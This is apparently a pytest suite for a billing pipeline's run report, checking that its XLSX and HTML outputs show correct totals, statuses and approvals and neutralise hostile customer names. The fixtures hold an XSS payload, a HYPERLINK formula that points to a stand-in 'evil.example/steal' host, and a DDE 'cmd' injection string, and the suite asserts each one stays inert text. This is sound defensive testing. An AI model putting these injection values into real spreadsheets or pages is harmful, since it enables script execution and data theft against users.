"""The run report on a month the real pipeline planned, loaded into the Autotask sandbox and verified: the
XLSX read back with openpyxl (typed cells, frozen header, totals equal to their rows, no formula anywhere)
and the HTML parsed (a hostile customer name stays text, headline numbers match the plan and the ledger)."""

from __future__ import annotations

import json
import math
from collections import Counter, defaultdict
from datetime import date, datetime
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from include.loader import BudgetExhausted, LoadSettings, load_plan_actions
from include.plan import ActionKind, load_plan, set_action_status
from include.quality import (
    ExpectationFailure,
    QualityReport,
    Severity,
    Stage,
    SuiteResult,
    data_docs_dir,
    store_report,
)
from include.report import write_run_report
from include.verify import verify_load
from include.warehouse import Warehouse
from tests.include.loader_support import (
    APPROVER,
    MONTH,
    SETTINGS,
    make_hook,
    plan_month,
)

XSS_NAME = "<img src=x onerror=alert(1)>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/steal","Müller & Söhne GmbH")'
SHEETS = ["Summary", "Changes", "Creates", "Left to do", "One-off charges", "Verification"]


class PageParser(HTMLParser):
    """Every start tag with its attributes, the text of the headline figures, and all text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.figures: dict[str, str] = {}
        self.fields: dict[str, str] = {}
        self.text: list[str] = []
        self._open: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        for name in ("data-figure", "data-field"):
            if attributes.get(name):
                self._open.append((name, attributes[name]))
                (self.figures if name == "data-figure" else self.fields)[attributes[name]] = ""

    def handle_endtag(self, tag):
        if self._open and tag in ("span", "dd", "div"):
            self._open.pop()

    def handle_data(self, data):
        self.text.append(data)
        for name, key in self._open:
            target = self.figures if name == "data-figure" else self.fields
            target[key] += data

    @property
    def all_text(self) -> str:
        return " ".join(" ".join(self.text).split())


def parse_html(path: Path) -> PageParser:
    parser = PageParser()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def sheet_rows(sheet) -> tuple[list[str], list[dict], list[dict]]:
    """(header, data rows, totals rows) of a line sheet: data rows carry a plan action id, totals do not."""
    header = [cell.value for cell in sheet[1]]
    data, totals = [], []
    for row in sheet.iter_rows(min_row=2):
        values = dict(zip(header, row, strict=False))
        (data if values["Plan action"].value else totals).append(values)
    return header, data, totals


def rename_customer(warehouse: Warehouse, account_id: str, name: str) -> None:
    """The BSS calls this customer `name` (what the report shows for it)."""
    with warehouse.begin() as conn:
        for table in ("charge_lines", "bss_accounts"):
            column = "account_name" if table == "charge_lines" else "name"
            conn.execute(
                sa.text(f"UPDATE {table} SET {column} = :name WHERE account_id = :account"),
                {"name": name, "account": account_id},
            )


def expected_totals(warehouse: Warehouse, run_id: str, statuses: tuple[str, ...]) -> dict[str, Decimal]:
    """Net units per currency of the month's adjustments in `statuses`, from the plan rows and the BSS lines
    (not from the report): what the report's totals must add up to."""
    currency_of = {
        row["subscription_id"]: row["currency"]
        for row in warehouse.query("SELECT subscription_id, currency FROM charge_lines WHERE month = :m", {"m": MONTH})
    }
    net: dict[str, Decimal] = defaultdict(Decimal)
    for row in warehouse.query("SELECT * FROM plan_actions WHERE month = :m", {"m": MONTH}):
        if row["kind"] == "adjust_units" and row["status"] in statuses and row["run_id"] == run_id:
            (subscription,) = json.loads(row["subscription_ids"])
            net[currency_of[subscription]] += Decimal(str(row["unit_change"]))
    return dict(net)


def test_the_report_of_a_loaded_and_verified_month_lists_every_outcome_with_names_and_totals(
    autotask, admin, warehouse: Warehouse, monkeypatch, tmp_path
):
    monkeypatch.setenv("BILLING_DATA_DOCS_DIR", str(tmp_path / "docs"))
    hook = make_hook(autotask, monkeypatch)
    approved = plan_month(hook, warehouse)
    adjusted_accounts = [a.account_id for a in approved if a.kind is ActionKind.ADJUST_UNITS and a.account_id]
    xss_account, formula_account = sorted(set(adjusted_accounts))[:2]
    rename_customer(warehouse, xss_account, XSS_NAME)
    rename_customer(warehouse, formula_account, FORMULA_NAME)
    # a person excludes one approved adjustment before the load: it is reported, never written
    excluded = next(a for a in approved if a.kind is ActionKind.ADJUST_UNITS and a.account_id == formula_account)
    set_action_status(warehouse, [excluded.action_id], "excluded", "Åsa Ångström")
    summary = load_plan_actions(hook, warehouse, MONTH, "run-1", SETTINGS)
    assert summary.status == "succeeded"
    # someone adds 2 units by hand on the last day to an adjusted contract service: the read-back differs
    target = next(
        a
        for a in load_plan(warehouse, MONTH, statuses=["applied"])
        if a.kind is ActionKind.ADJUST_UNITS and a.contract_service_id is not None and a.effective_date.day < 31
    )
    hook.create(
        "ContractServiceAdjustments",
        {"contractServiceID": target.contract_service_id, "effectiveDate": "2026-10-31T00:00:00", "unitChange": 2},
    )
    verification = verify_load(hook, warehouse, MONTH, "run-1")
    assert len(verification.differences) >= 1
    # statuses newer than this branch's plan module: a blocked line and one the report does not know
    with warehouse.engine.begin() as conn:
        blocked_id, odd_id = (
            row[0]
            for row in conn.exec_driver_sql(
                "SELECT action_id FROM plan_actions WHERE status = 'needs-mapping' ORDER BY action_id LIMIT 2"
            )
        )
        conn.exec_driver_sql(
            "UPDATE plan_actions SET status = 'blocked', reason = 'EUR line for a company billed in GBP' "
            f"WHERE action_id = '{blocked_id}'"
        )
        conn.exec_driver_sql(f"UPDATE plan_actions SET status = 'parked' WHERE action_id = '{odd_id}'")

    report = write_run_report(warehouse, MONTH, "run-1")

    directory = data_docs_dir(MONTH, "run-1")
    assert report.html_path == directory / "report.html" and report.xlsx_path == directory / "report.xlsx"
    rows = warehouse.query("SELECT kind, status, run_id FROM plan_actions WHERE month = :m", {"m": MONTH})
    applied = Counter(row["kind"].startswith("create_") for row in rows if row["status"] == "applied")
    ledger_writes = warehouse.scalar("SELECT COUNT(*) FROM load_ledger WHERE run_id = 'run-1'")
    assert report.summary["created"] == applied[True] and report.summary["changed"] == applied[False]
    assert report.summary["excluded"] == 1 and report.summary["failed"] == 0
    assert report.summary["writes"] == summary.write_requests == ledger_writes
    assert report.summary["approval"]["decided_by"] == APPROVER and report.summary["approval"]["source"] == "plan rows"
    assert report.summary["verification"]["differences"] == len(verification.differences)
    assert "payload" not in json.dumps(report.summary) and "Secret" not in json.dumps(report.summary)
    net = expected_totals(warehouse, "run-1", ("applied",))
    assert {item["currency"] for item in report.summary["totals"]} == set(net)
    for item in report.summary["totals"]:
        units = Decimal(str(item["units_added"])) - Decimal(str(item["units_removed"]))
        assert units == net[item["currency"]], item

    # -- the workbook ----------------------------------------------------------------------------------
    workbook = load_workbook(report.xlsx_path)
    assert workbook.sheetnames == SHEETS
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "B2", sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert all(isinstance(cell.value, str) for cell in sheet[1] if cell.value is not None)
        formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        assert not formulas, (sheet.title, formulas)
    _, changes, totals = sheet_rows(workbook["Changes"])
    adjustments = [row for row in changes if row["Action"].value == "Adjust units"]
    assert adjustments
    for row in adjustments:
        assert isinstance(row["Effective date"].value, datetime) and "yy" in row["Effective date"].number_format
        assert isinstance(row["Units after"].value, (int, float)) and isinstance(row["Unit change"].value, (int, float))
        assert row["Billing plan"].value.endswith("billing") and row["Product"].value and row["Contract"].value
    # the totals rows: one per currency, each the sum of its currency's rows
    assert {row["Currency"].value for row in totals} == set(net)
    for total in totals:
        mine = [row for row in changes if row["Currency"].value == total["Currency"].value]
        for column in ("Units added", "Units removed", "Monthly cost added", "Monthly cost removed"):
            assert total[column].value == pytest.approx(sum(row[column].value or 0 for row in mine)), column
        assert total["Units added"].value - total["Units removed"].value == pytest.approx(
            float(net[total["Currency"].value])
        )
    # a customer name that looks like a formula is stored as text, read back unchanged
    formula_cells = [row["Customer"] for row in changes if row["Account ID"].value == formula_account]
    assert formula_cells and all(cell.value == FORMULA_NAME and cell.data_type == "s" for cell in formula_cells)
    assert all(cell.quotePrefix for cell in formula_cells)
    excluded_rows = [row for row in changes if row["Plan action"].value == excluded.action_id]
    assert excluded_rows[0]["Outcome"].value == "excluded" and excluded_rows[0]["Units added"].value is None
    _, creates, _ = sheet_rows(workbook["Creates"])
    assert {row["Outcome"].value for row in creates} == {"created"}
    assert all(row["Customer"].value for row in creates)
    # names, not only ids: the created contract and company read as names
    contract_row = next(row for row in creates if row["Action"].value == "Create contract")
    assert "(SUB-" in contract_row["Contract"].value and "(new)" in contract_row["Contract"].value
    left = [[cell.value for cell in row] for row in workbook["Left to do"].iter_rows(min_row=2)]
    todos = Counter(row[0] for row in left if row[0] != "Total")
    assert any(todo.startswith("Approve and post") for todo in todos)
    blocked = [row for row in left if row[6] == "blocked"]
    blocked_in_plan = warehouse.scalar(
        "SELECT COUNT(*) FROM plan_actions WHERE run_id = :r AND status = 'blocked'", {"r": "run-1"}
    )
    assert len(blocked) == blocked_in_plan and sum("billed in GBP" in row[7] for row in blocked) == 1
    assert any(row[6] == "parked" and "unknown" in row[0] for row in left)
    verification_sheet = workbook["Verification"]
    checks = [[cell.value for cell in row] for row in verification_sheet.iter_rows(min_row=2)]
    assert sum(1 for row in checks if row[9] == "NO") == len(verification.differences)
    assert ["Checks", len(verification.checks)] == checks[-2][:2]
    summary_sheet = {row[0].value: row[1].value for row in workbook["Summary"].iter_rows(min_row=2)}
    assert summary_sheet["Approved by"] == APPROVER and summary_sheet["Writes sent"] == ledger_writes

    # -- the page ----------------------------------------------------------------------------------------
    page = parse_html(report.html_path)
    assert XSS_NAME in page.all_text  # shown as text ...
    assert not [attrs for tag, attrs in page.tags if tag in ("img", "script")]  # ... never as an element
    assert "&lt;img src=x onerror=alert(1)&gt;" in report.html_path.read_text(encoding="utf-8")
    external = [
        value
        for _, attrs in page.tags
        for name, value in attrs.items()
        if name in ("src", "href") and value and ("//" in value or value.startswith("http"))
    ]
    assert not external and not [tag for tag, _ in page.tags if tag == "link"]
    assert int(page.figures["created"]) == report.summary["created"]
    assert int(page.figures["changed"]) == report.summary["changed"]
    assert int(page.figures["excluded"]) == 1
    assert APPROVER in page.fields["approver"]
    assert "differences found" in page.fields["verification"]
    assert "Approve and post" in page.all_text and "billed in GBP" in page.all_text
    assert target.subscription_ids[0] in page.all_text
    euro_row = next(attrs for tag, attrs in page.tags if tag == "tr" and attrs.get("data-currency") == "EUR")
    assert euro_row


def test_a_dry_run_report_lists_what_would_be_written_and_says_nothing_was_written(
    autotask, admin, warehouse: Warehouse, monkeypatch, tmp_path
):
    monkeypatch.setenv("BILLING_DATA_DOCS_DIR", str(tmp_path / "docs"))
    hook = make_hook(autotask, monkeypatch)
    approved = plan_month(hook, warehouse)
    # the plan's quality gate passed with a warning; its Data Docs are in the run's directory
    directory = data_docs_dir(MONTH, "run-1")
    directory.mkdir(parents=True)
    (directory / "index.html").write_text("<html>Data Docs</html>", encoding="utf-8")
    warning = ExpectationFailure(
        suite="change_plan",
        name="plan_units_reasonable",
        description="A <b>big</b> unit jump",
        expectation_type="expect_column_values_to_be_between",
        severity=Severity.WARNING,
        unexpected_count=1,
    )
    store_report(
        warehouse,
        QualityReport(
            stage=Stage.PLAN,
            month=MONTH,
            run_id="run-1",
            suites=(SuiteResult("change_plan", True, len(approved), 12, 0, 1),),
            failures=(warning,),
            data_docs_index=str(directory / "index.html"),
        ),
    )
    admin.reset_stats()

    report = write_run_report(warehouse, MONTH, "run-1", dry_run=True)

    assert admin.write_requests() == 0
    writing = approved  # every approved action of this plan writes (a new contract service with its first adjustment)
    assert report.summary["would_write"] == len(writing)
    assert report.summary["created"] == report.summary["changed"] == 0
    assert report.summary["writes"] == report.summary["writes_recorded"] == 0
    assert report.summary["load_status"] == "dry run: not loaded"
    page = parse_html(report.html_path)
    assert "nothing was written to Autotask" in page.fields["dry_run"]
    assert int(page.figures["would_write"]) == len(writing)
    assert "created" not in page.figures
    assert report.html_path.parent == directory and ("a", {"href": "index.html"}) in page.tags
    assert "change_plan (plan): passed, 0 critical, 1 warnings" in page.all_text
    assert "A <b>big</b> unit jump (warning)" in page.all_text and not [t for t, _ in page.tags if t == "b"]
    workbook = load_workbook(report.xlsx_path)
    _, changes, totals = sheet_rows(workbook["Changes"])
    _, creates, _ = sheet_rows(workbook["Creates"])
    assert {row["Outcome"].value for row in changes + creates} == {"would be written"}
    assert len(changes) + len(creates) == len(writing)
    net = expected_totals(warehouse, "run-1", ("approved",))
    assert {row["Currency"].value: row["Units added"].value - row["Units removed"].value for row in totals} == (
        pytest.approx({currency: float(value) for currency, value in net.items()})
    )
    summary_sheet = {row[0].value: row[1].value for row in workbook["Summary"].iter_rows(min_row=2)}
    assert summary_sheet["Dry run"] == "yes: nothing was written to Autotask"
    left = [row[0].value for row in workbook["Left to do"].iter_rows(min_row=2)]
    assert any(str(todo).startswith("After the load: Approve and post") for todo in left)


def test_a_dry_run_before_any_approval_lists_what_approving_the_proposed_actions_would_write(
    autotask, admin, tmp_path, monkeypatch
):
    warehouse = Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    warehouse.migrate()
    hook = make_hook(autotask, monkeypatch)
    approved = plan_month(hook, warehouse)
    with warehouse.engine.begin() as conn:  # the approval gate has not answered: the plan is as proposed
        conn.exec_driver_sql("UPDATE plan_actions SET status = 'proposed', decided_by = NULL WHERE status = 'approved'")

    report = write_run_report(warehouse, MONTH, "run-1", tmp_path / "dry", dry_run=True)

    assert report.summary["would_write"] == len(approved)
    assert report.summary["approval"]["source"] == "not recorded"
    page = parse_html(report.html_path)
    assert "once the proposed actions are approved" in page.fields["dry_run"]
    assert "approval not recorded" in page.fields["approver"]


# The approve part's migration 0011 (month_approvals); created here while this branch does not have it yet.
MONTH_APPROVALS_DDL = """
CREATE TABLE month_approvals (
    run_id VARCHAR(250) NOT NULL, month VARCHAR(7) NOT NULL, decision VARCHAR(30) NOT NULL,
    decided_by VARCHAR(100), decided_at TIMESTAMP NOT NULL, options TEXT NOT NULL,
    approved_actions INTEGER NOT NULL DEFAULT 0, note TEXT, PRIMARY KEY (run_id, decided_at)
)"""


def record_approval(warehouse: Warehouse, run_id: str, decision: str, decided_by: str | None, note: str) -> None:
    with warehouse.begin() as conn:
        if not sa.inspect(conn).has_table("month_approvals"):
            conn.exec_driver_sql(MONTH_APPROVALS_DDL)
        conn.execute(
            sa.text(
                "INSERT INTO month_approvals (run_id, month, decision, decided_by, decided_at, options, note) "
                "VALUES (:run_id, :month, :decision, :decided_by, :decided_at, :options, :note)"
            ),
            {
                "run_id": run_id,
                "month": MONTH,
                "decision": decision,
                "decided_by": decided_by,
                "decided_at": datetime(2026, 11, 2, 9, 0),
                "options": json.dumps(["Reject"] if decision == "rejected" else []),
                "note": note,
            },
        )


def plan_row(warehouse: Warehouse, action_id: str, kind: str, status: str, **values) -> dict:
    """A plan row as another (newer) version of the plan might store it: every column, most of them empty."""
    row = dict.fromkeys(column.name for column in warehouse.table("plan_actions").columns) | {
        "action_id": action_id,
        "idempotency_key": f"{MONTH}|{kind}|{action_id}|-",
        "month": MONTH,
        "run_id": "run-9",
        "seq": int(action_id[-1]),
        "kind": kind,
        "status": status,
        "payload": "{}",
        "charge_ids": "[]",
        "depends_on": "[]",
        "subscription_ids": "[]",
        "created_at": datetime(2026, 11, 2, 8, 0),
    }
    return row | values


def adjustment(warehouse: Warehouse, action_id: str, status: str, **values) -> dict:
    """An adjustment of subscription SUB-+1 of customer ACC-@1 (ids that look like formulas to Excel)."""
    return plan_row(
        warehouse,
        action_id,
        "adjust_units",
        status,
        **{
            "account_id": "ACC-@1",
            "subscription_ids": '["SUB-+1"]',
            "effective_date": date(2026, 10, 5),
            "units_before": Decimal(3),
            "units_after": Decimal(5),
            "unit_change": Decimal(2),
            "unit_cost_after": Decimal("7.1250"),
        }
        | values,
    )


def test_a_rejected_run_with_unknown_kinds_and_statuses_and_no_snapshot_is_reported_as_it_stands(
    warehouse: Warehouse, tmp_path
):
    with warehouse.begin() as conn:
        warehouse.insert(
            conn,
            "plan_actions",
            [
                adjustment(warehouse, "a1", "proposed"),
                plan_row(warehouse, "a2", "review_unbilled", "approved", reason="billed in the BSS, not in Autotask"),
                plan_row(warehouse, "a3", "teleport_units", "mystery", reason="-5 units @ nowhere"),
                plan_row(
                    warehouse,
                    "a4",
                    "review_unbilled",
                    "flagged",
                    reason="SUB-7 has no line in 2026-10 but contract service 12 still holds 4 units",
                ),
            ],
        )
    record_approval(warehouse, "run-9", "rejected", "=cmd|' /C calc'!A0", "numbers look off")

    report = write_run_report(warehouse, MONTH, "run-9", tmp_path)

    assert report.summary["approval"] == {
        "decision": "rejected",
        "decided_by": "=cmd|' /C calc'!A0",
        "decided_at": "2026-11-02T09:00:00",
        "source": "month_approvals",
    }
    assert report.summary["left_open"] == 3 and report.summary["skipped"] == 1
    assert report.summary["totals"] == [] and report.summary["load_status"] == "not loaded"
    page = parse_html(report.html_path)
    assert "Rejected: nothing was loaded" in page.all_text and "numbers look off" in page.all_text
    assert "options chosen: Reject" in page.all_text
    assert "teleport units" in page.all_text.casefold() and "mystery" in page.all_text
    workbook = load_workbook(report.xlsx_path)
    summary_sheet = {row[0].value: row[1] for row in workbook["Summary"].iter_rows(min_row=2)}
    approver = summary_sheet["Approved by"]
    assert approver.value == "=cmd|' /C calc'!A0" and approver.data_type == "s" and approver.quotePrefix
    assert isinstance(summary_sheet["Decided at"].value, datetime)
    left = [[cell.value for cell in row] for row in workbook["Left to do"].iter_rows(min_row=2)]
    assert any(row[2] == "SUB-+1" and row[0].startswith("Not approved") for row in left)
    by_hand = [row for row in left if row[0].startswith("Check by hand")]
    assert len(by_hand) == 1 and "still holds 4 units" in by_hand[0][7]
    assert any(row[6] == "mystery" and "unknown" in row[0] for row in left)
    _, changes, _ = sheet_rows(workbook["Changes"])
    assert [row["Outcome"].value for row in changes] == ["writes nothing"]


def test_a_dry_run_lists_an_earlier_approved_change_and_the_runs_proposed_ones_as_what_a_load_would_write(
    warehouse: Warehouse, tmp_path
):
    with warehouse.begin() as conn:
        warehouse.insert(
            conn,
            "plan_actions",
            [
                adjustment(warehouse, "b1", "approved", run_id="run-8", decided_by="Jürgen", seq=1),
                adjustment(
                    warehouse,
                    "b2",
                    "proposed",
                    effective_date=date(2026, 10, 20),
                    units_before=Decimal(5),
                    units_after=Decimal(1),
                    unit_change=Decimal(-4),
                ),
                adjustment(warehouse, "b3", "flagged", reason="decrease inside a 12-month commitment"),
            ],
        )
    record_approval(warehouse, "run-9", "dry_run", None, "dry run: nothing approved")

    report = write_run_report(warehouse, MONTH, "run-9", tmp_path, dry_run=True)

    assert report.summary["would_write"] == 2 and report.summary["left_open"] == 1
    assert report.summary["approval"]["decision"] == "dry_run"
    (totals,) = report.summary["totals"]
    assert (totals["units_added"], totals["units_removed"]) == (2.0, 4.0)
    # 5 × 7.125 − 3 × 7.125 = 14.25 added; 1 × 7.125 − 5 × 7.125 = 28.50 removed
    assert (totals["monthly_cost_added"], totals["monthly_cost_removed"]) == (14.25, 28.5)
    workbook = load_workbook(report.xlsx_path)
    _, changes, totals_rows = sheet_rows(workbook["Changes"])
    reasons = sorted(row["Reason"].value for row in changes)
    assert reasons == ["approved; a load would write it", "proposed; a load would write it once approved"]
    (total,) = totals_rows
    assert total["Monthly cost removed"].value == pytest.approx(28.5)
    # numeric cells in the line's currency (none known here: no BSS line), up to 4 places for a unit cost
    for row in changes:
        named = f' "{row["Currency"].value}"' if row["Currency"].value else ""
        assert row["Unit cost after"].number_format == f"#,##0.00##{named};-#,##0.00##{named};#,##0.00##{named}"
    page = parse_html(report.html_path)
    assert "Dry run: nothing approved, nothing loaded" in page.fields["approval"]
    assert "7.125" in page.all_text and "−28.50" in page.all_text


def test_a_budget_pause_and_failed_writes_are_reported_with_their_reasons_and_what_to_do_next(
    autotask, admin, tmp_path, monkeypatch
):
    warehouse = Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    warehouse.migrate()
    hook = make_hook(autotask, monkeypatch)
    approved = plan_month(hook, warehouse)
    # someone shortens a contract in Autotask after the plan was made: its adjustment will be refused
    first = min(
        (
            a
            for a in approved
            if a.kind is ActionKind.ADJUST_UNITS
            and a.contract_id is not None
            and not any(o.kind is ActionKind.EXTEND_CONTRACT and o.contract_id == a.contract_id for o in approved)
        ),
        key=lambda a: (a.effective_date, a.action_id),
    )
    day_before = date.fromordinal(first.effective_date.toordinal() - 1)
    hook.update("Contracts", {"id": first.contract_id, "endDate": f"{day_before.isoformat()}T00:00:00"})
    used = int(hook.threshold_information()["currentTimeframeRequestCount"])
    settings = LoadSettings(budget_reserve_share=0.2, write_batch_size=10)
    admin.faults(hourly_limit=math.ceil((used + settings.budget_margin + 25) / 0.8))
    with pytest.raises(BudgetExhausted) as stopped:
        load_plan_actions(hook, warehouse, MONTH, "run-1", SETTINGS, settings)

    paused = write_run_report(warehouse, MONTH, "run-1", tmp_path / "paused")

    assert paused.summary["load_status"] == "paused" and paused.summary["skipped"] > 0
    page = parse_html(paused.html_path)
    assert "paused" in page.fields["load_status"] and str(stopped.value).split(".")[0] in page.all_text
    assert "Load again: the sync resumes where it stopped" in page.all_text
    workbook = load_workbook(paused.xlsx_path)
    _, changes, _ = sheet_rows(workbook["Changes"])
    waiting = [row for row in changes if row["Outcome"].value == "not loaded"]
    assert waiting and all("paused" in row["Reason"].value or "write is" in row["Reason"].value for row in waiting)

    admin.faults(hourly_limit=10000)
    finished = load_plan_actions(hook, warehouse, MONTH, "run-1", SETTINGS, settings)
    assert finished.failed >= 1

    report = write_run_report(warehouse, MONTH, "run-1", tmp_path / "finished")

    failed_rows = warehouse.scalar("SELECT COUNT(*) FROM plan_actions WHERE status = 'failed'")
    assert report.summary["failed"] == failed_rows >= finished.failed  # and what depended on a failed write
    assert report.summary["load_status"] == finished.status
    assert report.summary["writes"] == warehouse.scalar("SELECT SUM(writes) FROM load_runs")
    workbook = load_workbook(report.xlsx_path)
    _, changes, _ = sheet_rows(workbook["Changes"])
    failed = {row["Plan action"].value: row for row in changes if row["Outcome"].value == "failed"}
    assert first.action_id in failed and failed[first.action_id]["Reason"].value  # Autotask's own words
    assert failed[first.action_id]["Units added"].value is None  # a failed write adds nothing to the totals
    left = [row[0].value for row in workbook["Left to do"].iter_rows(min_row=2)]
    assert left.count("Fix the cause of the failed write, then load again") == failed_rows
    loads = [row[1].value for row in workbook["Summary"].iter_rows(min_row=2) if str(row[0].value).startswith("Load ")]
    assert len(loads) == 2 and loads[0].startswith("paused")
